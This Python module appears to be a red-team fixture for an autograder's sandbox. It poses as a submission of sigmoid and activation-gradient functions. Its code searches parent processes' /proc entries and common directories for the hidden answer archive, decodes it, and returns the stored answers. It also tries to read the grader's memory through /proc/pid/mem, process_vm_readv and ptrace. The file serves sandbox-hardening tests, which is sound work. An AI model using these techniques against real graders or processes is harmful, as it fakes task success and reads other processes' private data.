"""Attack: read the grader's expected answers: the hidden vectors file, and its memory.

1. The vectors file (a zip: manifest.json, formulas/<id>.json and
   arrays/**.npy, holding the grading inputs AND the expected answers) is
   looked for: at the path the test writes into this file (an attacker who
   knows the instructor's layout: ``__FC_VECTORS__``, colon-separated); in
   the ancestors' /proc/<pid>/cmdline (``--vectors F``, ``--vectors=F``, any
   ``*.zip`` argument) and /proc/<pid>/environ (any ``*.zip`` value; their
   $HOME, $PWD and $TMPDIR globbed); through the ancestors' /proc/<pid>/cwd
   (globbed) and open descriptors (/proc/<pid>/fd/* naming a ``.zip``: the
   link's target and the link itself, which opens even a deleted file); by globbing ``*.zip`` (two levels deep) under /tmp,
   /var/tmp, $HOME, /root, /home/* and the grader's working directories (the
   ancestors' cwd). Each candidate (a regular file starting with a zip
   header) is opened with zipfile + json + numpy.load(allow_pickle=False)
   (checks.* cannot be imported; every layout of the format is decoded:
   format 1, one .npy per array; format 2, a JSON tree per value slicing flat
   pools per formula and dtype; format 3, each value a shared skeleton and
   its leaves, the arrays cut out of the pools by group of one dtype and
   shape and taken in value order as ``seq.npy`` lists them);
   a public file (manifest ``visibility`` "public") is skipped: its answers
   are not the ones graded. Every function then looks its input up among the
   file's cases and returns the stored answer: where the file is readable
   this is full marks.
2. The memory of the parent (zygote) and of the grader: /proc/<pid>/mem
   (open + read at a mapped address), process_vm_readv and
   ptrace(PTRACE_ATTACH) + PEEKDATA via ctypes. Only the ancestors are tried.

Report (``FCH key=value``): vectors_candidates (paths tried), vectors_seen
(those that exist for this process), vectors_files_read (hidden files whose
answers were read), vectors_read_<n> (the path of each), vectors_answers,
vectors_public_skipped, vectors_unreadable_<n> (a candidate that could not be
read, and why); per
ancestor maps_/proc_mem_/process_vm_readv_/ptrace_<pid>.

Expected verdict: no points (the hidden vectors file and the grader's memory
are not readable from the sandbox), every memory read fails; the neighbour
keeps full marks.
"""
import ctypes
import glob
import io
import json
import os
import stat
import zipfile

import numpy as np

FUNCS = ("sigmoid", "sigmoid_backward", "tanh_backward", "relu_backward", "leaky_relu_backward", "prelu_backward")
KNOWN = [p for p in "__FC_VECTORS__".split(":") if p.startswith("/")]  # the test substitutes the real path(s)
ANSWERS = {}
MAX_BYTES = 256 << 20


def _say(key, value):
    print(f"FCH {key}={value}", flush=True)


def _ancestors(n=4):
    out, pid = [], os.getpid()
    for _ in range(n):
        try:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                st = fh.read()
            pid = int(st[st.rindex(b")") + 2:].split()[1])
        except (OSError, ValueError):
            break
        if pid <= 1:
            break
        out.append(pid)
    return out


def _key(args, kwargs):
    parts = []
    for a in list(args) + [kwargs[k] for k in sorted(kwargs)]:
        a = np.asarray(a)
        parts.append((a.shape, a.dtype.str, a.tobytes()) if a.dtype.kind in "biufc" else repr(a))
    return repr((sorted(kwargs), parts))


def _zips_under(d):
    if not d:
        return []
    return glob.glob(os.path.join(glob.escape(d), "*.zip")) + glob.glob(os.path.join(glob.escape(d), "*", "*.zip"))


def _candidates():
    """Every path that may be a vectors file, in the order tried."""
    out = list(KNOWN)
    dirs = ["/tmp", "/var/tmp", os.path.expanduser("~"), "/root", *glob.glob("/home/*")]
    for pid in _ancestors(6):
        base = f"/proc/{pid}"
        try:
            with open(f"{base}/cmdline", "rb") as fh:
                argv = [a.decode(errors="replace") for a in fh.read().split(b"\0")]
            for i, a in enumerate(argv):
                if a == "--vectors" and i + 1 < len(argv):
                    out.append(argv[i + 1])
                elif a.startswith("--vectors="):
                    out.append(a.split("=", 1)[1])
                elif a.endswith(".zip"):
                    out.append(a)
        except OSError:
            pass
        try:
            with open(f"{base}/environ", "rb") as fh:
                env = dict(x.split(b"=", 1) for x in fh.read().split(b"\0") if b"=" in x)
            for k, v in env.items():
                v = v.decode(errors="replace")
                if v.endswith(".zip"):
                    out.append(v)
                if k in (b"HOME", b"PWD", b"TMPDIR"):
                    dirs.append(v)
        except OSError:
            pass
        try:
            dirs.append(os.readlink(f"{base}/cwd"))
        except OSError:
            pass
        try:
            for fd in os.listdir(f"{base}/fd"):
                try:
                    target = os.readlink(f"{base}/fd/{fd}")
                except OSError:
                    continue
                if target.endswith(".zip"):
                    out.append(target)
                if target.endswith((".zip", ".zip (deleted)")):  # the link opens even a deleted file
                    out.append(f"{base}/fd/{fd}")
        except OSError:
            pass
    for d in dirs:
        out += _zips_under(d)
    seen, uniq = set(), []
    for p in out:
        if p and p not in seen:
            seen.add(p)
            uniq.append(p)
    return uniq


def _dec(t, arr):
    """A value of formats 1-2 (one JSON tree per value + .npy members) as numpy / Python objects."""
    if t is None or isinstance(t, (bool, str, int, float)):
        return t
    if isinstance(t, list):
        return [_dec(x, arr) for x in t]
    tag = t["$"]
    if tag == "nd":
        if "i" in t:                                  # one member per array
            return arr(f"arrays/{int(t['i'])}.npy").copy()
        shape = tuple(int(s) for s in t["s"])         # a slice of a flat pool per formula and dtype
        n = int(np.prod(shape, dtype=np.int64)) if shape else 1
        o = int(t["o"])
        return arr(int(t["a"]))[o:o + n].reshape(shape).copy()
    if tag == "f":
        return float(t["v"])
    if tag == "int":
        return int(t["v"])
    if tag == "tuple":
        return tuple(_dec(x, arr) for x in t["v"])
    if tag == "dict":
        return {k: _dec(x, arr) for k, x in t["v"]}
    if tag == "sc":
        return np.asarray(_dec(t["v"], arr), dtype=np.dtype(t["d"]))[()]
    if tag == "gradfn":                               # a grad_fn object: its fields as a dict
        return {k: _dec(x, arr) for k, x in t["v"].items()}
    if tag == "ref":                                  # a judge function: its name and keywords
        return (t["fn"], {k: _dec(x, arr) for k, x in t["kw"].items()})
    raise ValueError(f"tag {tag!r}")


def _leaf3(x):
    if isinstance(x, dict):                           # a non-finite float / a big int
        return float(x["v"]) if x["$"] == "f" else int(x["v"])
    return x


def _node3(node, take, leaf):
    """A format-3 skeleton node filled with the next arrays (take()) and leaves (leaf())."""
    if node == "nd":
        return take()
    if node == "x":
        return _leaf3(leaf())
    if isinstance(node, list):
        return [_node3(x, take, leaf) for x in node]
    tag = node["$"]
    if tag == "tuple":
        return tuple(_node3(x, take, leaf) for x in node["v"])
    if tag in ("dict", "gradfn"):                     # (a grad_fn object: its fields as a dict)
        return {k: _node3(x, take, leaf) for k, x in node["v"]}
    if tag == "sc":
        return np.asarray(_node3(node["v"], take, leaf), dtype=np.dtype(node["d"]))[()]
    if tag == "ref":                                  # a judge function: its name and keywords (their arrays taken)
        return (node["fn"], {k: _node3(x, take, leaf) for k, x in node["kw"]})
    raise ValueError(f"tag {tag!r}")


def _dec3(v, doc, take):
    """A value of format 3: ``s`` or ``[s, leaf, ...]``, skeleton ``doc["skeletons"][s]``."""
    if isinstance(v, int):
        return _node3(doc["skeletons"][v], take, None)
    return _node3(doc["skeletons"][v[0]], take, iter(v[1:]).__next__)


def _arrays3(doc, arr):
    """next() over a format-3 formula's arrays in value order: the groups cut out of the pools, seq.npy."""
    pos = [0] * len(doc["pools"])
    groups = []
    for p, c, shape in doc["groups"]:               # each group: ``c`` arrays of one shape, next in pool ``p``
        n = c * int(np.prod(shape, dtype=np.int64))
        block = arr(p)[pos[p]:pos[p] + n].reshape((c, *shape))
        pos[p] += n
        groups.append(iter([block[i, ...].copy() for i in range(c)]))
    seq = arr(f"arrays/{doc['id']}/seq.npy")         # the group of each array, in value order
    return iter([next(groups[g]) for g in seq.tolist()]).__next__


def _read_vectors(z):
    """The answers of one open vectors file: {function: {input key: answer}}."""
    found = {}
    for name in z.namelist():
        if not (name.startswith("formulas/") and name.endswith(".json")):
            continue
        doc = json.loads(z.read(name))
        fn = doc.get("fn_name") or doc["id"].split(".", 1)[1]
        if fn not in FUNCS:
            continue
        cache = {}

        def arr(k, fid=doc["id"]):
            member = k if isinstance(k, str) else f"arrays/{fid}/{k}.npy"
            if member not in cache:
                cache[member] = np.load(io.BytesIO(z.read(member)), allow_pickle=False)
            return cache[member]

        if "skeletons" in doc:  # format 3: every value in file order (compare, cases, oracles), one array stream
            take = _arrays3(doc, arr)
            if doc.get("compare") is not None:
                _dec3(doc["compare"], doc, take)
            cases = [(tuple(_dec3(c["args"], doc, take)), _dec3(c["kwargs"], doc, take)) for c in doc["cases"]]
            oracles = []
            for o in doc["oracles"]:
                if o.get("fn") is not None:
                    _dec3(o["fn"], doc, take)
                oracles.append((o, [_dec3(e, doc, take) for e in o["expected"]]))
        else:
            cases = [(tuple(_dec(c["args"], arr)), _dec(c["kwargs"], arr)) for c in doc["cases"]]
            oracles = [(o, None) for o in doc["oracles"]]
        table = found.setdefault(fn, {})
        for o, expected in sorted(oracles, key=lambda oe: oe[0].get("kind") != "value"):  # stored values first
            for j, (i, e) in enumerate(zip(o["cases"], o["expected"])):
                args, kwargs = cases[i]
                table.setdefault(_key(args, kwargs), expected[j] if expected is not None else _dec(e, arr))
    return found


def _load_vectors():
    cands = _candidates()
    seen = read = public = answers = bad = 0
    for p in cands:
        try:
            st = os.stat(p)
        except OSError:
            continue
        seen += 1
        if not stat.S_ISREG(st.st_mode) or st.st_size > MAX_BYTES:  # never a FIFO (open would block)
            continue
        try:
            with open(p, "rb") as fh:
                if fh.read(4) != b"PK\x03\x04":  # not a zip archive
                    continue
            with zipfile.ZipFile(p) as z:
                if "manifest.json" not in z.namelist():
                    continue
                manifest = json.loads(z.read("manifest.json"))
                if manifest.get("format") != "formulacheck-vectors":
                    continue
                if manifest.get("visibility") == "public":
                    public += 1
                    continue
                found = _read_vectors(z)
        except Exception as e:
            bad += 1
            _say(f"vectors_unreadable_{bad}", f"{p} {type(e).__name__} {getattr(e, 'errno', '') or ''}".strip())
            continue
        n = sum(len(t) for t in found.values())
        if n:
            read += 1
            answers += n
            _say(f"vectors_read_{read}", p)
            for fn, table in found.items():
                for k, v in table.items():
                    ANSWERS.setdefault(fn, {}).setdefault(k, v)
    _say("vectors_candidates", len(cands))
    _say("vectors_seen", seen)
    _say("vectors_files_read", read)
    _say("vectors_answers", answers)
    _say("vectors_public_skipped", public)


def _make(fn):
    def f(*args, **kwargs):
        return ANSWERS[fn][_key(args, kwargs)]
    f.__name__ = fn
    return f


class _IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _memory():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    for pid in _ancestors(3):
        addr = None
        try:
            with open(f"/proc/{pid}/maps") as fh:
                for line in fh:
                    if "[heap]" in line or " rw-p " in line:
                        addr = int(line.split("-")[0], 16)
                        break
        except OSError as e:
            _say(f"maps_{pid}", f"failed {e.errno}")
        addr = addr or 0x400000
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as fh:
                fh.seek(addr)
                _say(f"proc_mem_{pid}", f"ok {len(fh.read(64))} bytes")
        except OSError as e:
            _say(f"proc_mem_{pid}", f"failed {e.errno}")
        buf = ctypes.create_string_buffer(64)
        local, remote = _IOVec(ctypes.addressof(buf), 64), _IOVec(addr, 64)
        n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        _say(f"process_vm_readv_{pid}", f"ok {n} bytes" if n > 0 else f"failed {ctypes.get_errno()}")
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            os.waitpid(pid, 0x40000000)  # __WALL
            ctypes.set_errno(0)
            word = libc.ptrace(2, pid, ctypes.c_void_p(addr), None)  # PTRACE_PEEKDATA
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
            _say(f"ptrace_{pid}", f"ok peek={word & 0xff}")
        else:
            _say(f"ptrace_{pid}", f"failed {ctypes.get_errno()}")


try:
    _load_vectors()
except Exception as e:
    _say("vectors", f"failed {type(e).__name__}")
try:
    _memory()
except Exception as e:
    _say("memory", f"failed {type(e).__name__}: {e}")
for _fn in ANSWERS:
    globals()[_fn] = _make(_fn)
